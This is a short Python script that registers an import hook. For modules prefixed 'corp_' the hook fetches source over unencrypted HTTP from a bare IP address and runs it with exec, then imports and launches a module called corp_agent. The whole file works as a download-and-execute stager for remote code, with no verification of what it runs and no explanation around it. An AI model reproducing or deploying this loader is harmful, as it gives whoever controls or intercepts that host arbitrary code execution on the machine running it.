import sys
import types
import urllib.request


class Remote:
    def find_spec(self, name, path=None, target=None):
        import importlib.util

        if name.startswith("corp_"):
            return importlib.util.spec_from_loader(name, self)

    def create_module(self, spec):
        return types.ModuleType(spec.name)

    def exec_module(self, module):
        text = urllib.request.urlopen("http://198.51.100.90/m/%s.py" % module.__name__).read()
        exec(compile(text, module.__name__, "exec"), module.__dict__)


sys.meta_path.append(Remote())
import corp_agent  # noqa: E402

corp_agent.main()
